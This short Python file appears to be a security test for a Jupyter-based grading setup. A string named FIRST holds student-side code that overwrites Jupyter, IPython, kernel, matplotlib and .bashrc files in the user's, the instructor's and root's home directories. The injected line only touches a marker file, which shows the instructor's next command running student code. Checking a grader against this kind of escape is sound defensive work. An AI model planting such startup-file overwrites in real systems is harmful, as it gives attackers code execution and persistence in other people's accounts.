"""Writes configuration and startup files that Jupyter and IPython run in the instructor's next command."""

FIRST = """
import pathlib
evil = "import pathlib; pathlib.Path('@COURSE@/run-by-the-instructor').touch()\\n"
for home in ("@HOME@", str(pathlib.Path.home()), "/root"):
    for name in (".jupyter/jupyter_config.py", ".jupyter/jupyter_notebook_config.py", ".jupyter/nbgrader_config.py",
                 ".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py",
                 ".local/share/jupyter/kernels/python3/kernel.json", ".config/matplotlib/matplotlibrc", ".bashrc"):
        try:
            path = pathlib.Path(home, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(evil)
            print("written", path)
        except OSError as error:
            print(error)
"""  # noqa: E501
